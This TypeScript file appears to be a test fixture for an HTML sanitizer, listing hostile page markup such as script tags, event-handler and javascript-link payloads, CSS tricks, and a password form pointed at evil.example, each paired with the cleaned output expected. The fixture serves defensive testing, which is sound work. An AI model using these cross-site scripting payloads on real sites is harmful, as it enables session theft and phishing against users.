/**
 * Page markup that somebody means harm with, and what the allow-list leaves of it, as a browser would write it out again.
 * The server's cleaner and the browser's must both leave exactly this.
 */
export const hostilePages: ReadonlyArray<{ readonly name: string; readonly html: string; readonly left: string }> = [
  { name: "script", html: "<p>a<script>alert(1)</script>b</p>", left: "<p>ab</p>" },
  {
    name: "script in an image's error",
    html: '<img src="1.webp" onerror="alert(1)" alt="">',
    left: '<img src="1.webp" alt="">'
  },
  { name: "image from elsewhere", html: '<img src="https://evil.example/x.webp" alt="">', left: '<img alt="">' },
  { name: "image from the folder above", html: '<img src="../2/1.webp" alt="">', left: '<img alt="">' },
  {
    name: "zoom image from elsewhere",
    html: '<img src="1.webp" data-zoom="//evil.example/x" alt="">',
    left: '<img src="1.webp" alt="">'
  },
  { name: "srcset", html: '<img src="1.webp" srcset="//evil.example/x 2x" alt="">', left: '<img src="1.webp" alt="">' },
  { name: "javascript link", html: '<a href="javascript:alert(1)">x</a>', left: "<a>x</a>" },
  { name: "javascript link in disguise", html: '<a href="java\tscript:alert(1)">x</a>', left: "<a>x</a>" },
  {
    name: "javascript link in capitals and entities",
    html: '<a href="&#74;avaScript&colon;alert(1)">x</a>',
    left: "<a>x</a>"
  },
  { name: "data link", html: '<a href="data:text/html,<script>alert(1)</script>">x</a>', left: "<a>x</a>" },
  { name: "vbscript link", html: '<a href="vbscript:msgbox(1)">x</a>', left: "<a>x</a>" },
  { name: "link without a scheme", html: '<a href="//evil.example">x</a>', left: "<a>x</a>" },
  { name: "link into the site", html: '<a href="/logout">x</a>', left: "<a>x</a>" },
  {
    name: "opener kept",
    html: '<a href="https://example.com/" target="_blank" rel="opener">x</a>',
    left: '<a href="https://example.com/" target="_blank">x</a>'
  },
  {
    name: "target in another frame",
    html: '<a href="https://example.com/" target="_top">x</a>',
    left: '<a href="https://example.com/">x</a>'
  },
  { name: "jump to no page", html: '<a data-goto="0">x</a><a data-goto="1);alert(1">y</a>', left: "<a>x</a><a>y</a>" },
  {
    name: "event handlers",
    html: '<div onclick="alert(1)" onmouseover=\'alert(1)\' class="page">x</div>',
    left: '<div class="page">x</div>'
  },
  { name: "classes of the site", html: '<div class="modal line">x</div>', left: '<div class="line">x</div>' },
  { name: "id that shadows a global", html: '<div id="getElementById">x</div>', left: "<div>x</div>" },
  { name: "name that shadows a global", html: '<a name="forms">x</a>', left: "<a>x</a>" },
  {
    name: "style that reaches out",
    html: '<span style="background:url(//evil.example);left:1px">x</span>',
    left: '<span style="left:1px">x</span>'
  },
  {
    name: "style that covers the site",
    html: '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    left: "<div>x</div>"
  },
  { name: "style with an expression", html: '<div style="width:expression(alert(1))">x</div>', left: "<div>x</div>" },
  {
    name: "style with a variable",
    html: '<div style="left:var(--x);top:2px">x</div>',
    left: '<div style="top:2px">x</div>'
  },
  {
    name: "style with a comment",
    html: '<div style="left:1px/**/;top:2px">x</div>',
    left: '<div style="top:2px">x</div>'
  },
  { name: "style element", html: "<style>body{display:none}</style><p>x</p>", left: "<p>x</p>" },
  { name: "stylesheet", html: '<link rel="stylesheet" href="//evil.example"><p>x</p>', left: "<p>x</p>" },
  { name: "base", html: '<base href="//evil.example/"><img src="1.webp" alt="">', left: '<img src="1.webp" alt="">' },
  { name: "refresh", html: '<meta http-equiv="refresh" content="0;url=//evil.example"><p>x</p>', left: "<p>x</p>" },
  { name: "frame", html: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>x</p>', left: "<p>x</p>" },
  { name: "object and embed", html: '<object data="x"><p>y</p></object><embed src="x"><p>x</p>', left: "<p>x</p>" },
  {
    name: "form",
    html: '<form action="//evil.example"><input name="password"><button>Giriş</button></form>',
    left: "Giriş"
  },
  {
    name: "drawing with a script",
    html: '<svg onload="alert(1)"><script>alert(1)</script></svg><p>x</p>',
    left: "<p>x</p>"
  },
  { name: "formula with a link", html: '<math href="javascript:alert(1)">m</math><p>x</p>', left: "<p>x</p>" },
  { name: "template", html: "<template><img src=x onerror=alert(1)></template><p>x</p>", left: "<p>x</p>" },
  {
    name: "noscript",
    html: "<p>a</p><noscript><img src=x onerror=alert(1)></noscript><p>x</p>",
    left: "<p>a</p><p>x</p>"
  },
  { name: "comment", html: "<!-- <p>y</p> --><p>x</p>", left: "<p>x</p>" },
  { name: "element of one's own", html: "<x-evil onclick=alert(1)>x</x-evil>", left: "x" },
  {
    name: "text that looks like markup",
    html: "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    left: "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
  },
  {
    name: "quote in a name",
    html: '<a data-goto="2" aria-label=\'" onclick="alert(1)\'>x</a>',
    left: '<a data-goto="2" aria-label="&quot; onclick=&quot;alert(1)">x</a>'
  },
  {
    name: "markup in a name",
    html: '<a data-goto="2" aria-label=\'"></script><script>alert(1)</script>\'>x</a>',
    left: '<a data-goto="2">x</a>'
  },
  { name: "Turkish text", html: "<p>IŞIK ışık İzmir</p>", left: "<p>IŞIK ışık İzmir</p>" }
]
